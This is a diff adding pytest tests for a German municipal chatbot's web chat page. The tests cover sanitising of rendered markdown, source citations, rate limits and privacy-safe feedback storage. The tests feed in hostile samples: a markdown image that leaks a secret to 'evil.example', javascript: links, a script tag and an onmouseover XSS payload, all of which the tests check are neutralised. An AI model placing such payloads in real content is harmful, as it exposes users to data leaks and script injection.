@@ -1,0 +1,123 @@
+"""The chat page's behaviour without a browser: safe rendering, sources, feedback, limits."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from bot.answer import Answer, Citation
+from bot.chat_ui import ChatController, ChatSession, render_answer, safe_markdown
+from bot.config import Settings
+
+
+def test_hostile_markdown_is_rendered_harmless() -> None:
+    text = (
+        "Hallo ![x](https://evil.example/leak?q=secret) [klick](javascript:alert(1)) "
+        "<script>alert(1)</script><img src=https://evil.example/a.png> [ok](https://ok.example/)"
+    )
+    safe = safe_markdown(text)
+    assert "evil.example" not in safe
+    assert "javascript:" not in safe and "<script" not in safe.lower()
+    assert "[ok](https://ok.example/)" in safe
+
+
+def citation(**extra: object) -> Citation:
+    data = {
+        "number": 1,
+        "source": "einbuergerung.md",
+        "title": "Einbürgerung",
+        "section": "Kosten",
+        "score": 0.9,
+        "excerpt": "Die Gebühr beträgt 255 Euro. <b onmouseover=alert(1)>x</b>",
+        "updated": "2026-09-15",
+        "url": "https://www.rhein-sieg-kreis.de/",
+    }
+    data.update(extra)
+    return Citation(**data)  # type: ignore[arg-type]
+
+
+def test_sources_show_section_date_passage_and_link() -> None:
+    answer = Answer("q", "**Einbürgerung › Kosten** [1]\n255 Euro", False, "de", [citation()])
+    html = render_answer(answer)
+    assert "[1] Einbürgerung › Kosten (Stand 2026-09-15)" in html
+    assert "&lt;b onmouseover=alert(1)&gt;" in html, "passage text is escaped"
+    assert 'href="https://www.rhein-sieg-kreis.de/"' in html
+    unsafe = render_answer(Answer("q", "x", False, "de", [citation(url="javascript:alert(1)")]))
+    assert "javascript:" not in unsafe
+
+
+def test_refusal_offers_contact_in_the_question_language() -> None:
+    html = render_answer(Answer("q", "I could not find …", True, "en", [], reason="x"))
+    assert "contact the KI" in html and "rhein-sieg-kreis.de" in html
+
+
+class OneAnswer:
+    """A stand-in assistant: answers every question the same way."""
+
+    def __init__(self) -> None:
+        self.calls = 0
+
+    def reload_if_changed(self) -> bool:
+        return False
+
+    def stream(self, question: str, history: object):
+        self.calls += 1
+        yield Answer(question, "Die Gebühr beträgt 255 Euro.", False, "de", [citation()])
+
+
+@pytest.fixture
+def controller(settings: Settings) -> ChatController:
+    limited = settings.model_copy(update={"requests_per_minute": 3})
+    return ChatController(limited, OneAnswer())  # type: ignore[arg-type]
+
+
+def run(controller: ChatController, question: str, session: ChatSession | None):
+    return list(controller.respond(question, [], session))[-1]
+
+
+def test_answer_is_announced_once_and_turns_are_kept(controller: ChatController) -> None:
+    history, session, live, cleared = run(controller, "Was kostet die Einbürgerung?", None)
+    assert history[-1]["role"] == "assistant" and "255 Euro" in history[-1]["content"]
+    assert 'aria-live="polite"' in live and "255 Euro" in live
+    assert cleared == ""
+    assert session.turns == [("Was kostet die Einbürgerung?", "Die Gebühr beträgt 255 Euro.")]
+
+
+def test_flooding_client_gets_a_clear_message(controller: ChatController) -> None:
+    session = ChatSession()
+    for _ in range(3):
+        run(controller, "Frage", session)
+    history, *_ = run(controller, "Frage", session)
+    assert "Bitte warten Sie eine Minute" in history[-1]["content"]
+    assert controller.assistant.calls == 3
+    other, *_ = run(controller, "Frage", ChatSession())
+    assert "255 Euro" in other[-1]["content"], "other citizens are not affected"
+
+
+def test_huge_message_is_not_echoed_whole(controller: ChatController) -> None:
+    history, *_ = run(controller, "x" * 100_000, None)
+    assert len(history[0]["content"]) < 2100
+
+
+def test_feedback_is_stored_without_personal_data(
+    controller: ChatController, settings: Settings
+) -> None:
+    assert "zuerst eine Frage" in controller.feedback(None, True, "", "de")
+    _, session, *_ = run(controller, "Was kostet die Einbürgerung?", None)
+    assert "Danke" in controller.feedback(session, False, "zu  kurz " * 100, "de")
+    lines = (settings.data_dir / "feedback.jsonl").read_text(encoding="utf-8").splitlines()
+    record = json.loads(lines[-1])
+    assert set(record) == {
+        "day",
+        "question",
+        "refused",
+        "language",
+        "helpful",
+        "comment",
+        "sources",
+    }
+    assert record["helpful"] is False and len(record["comment"]) <= 500
+    assert record["sources"] == ["einbuergerung.md"]
+    assert session.id not in Path(settings.data_dir / "feedback.jsonl").read_text()
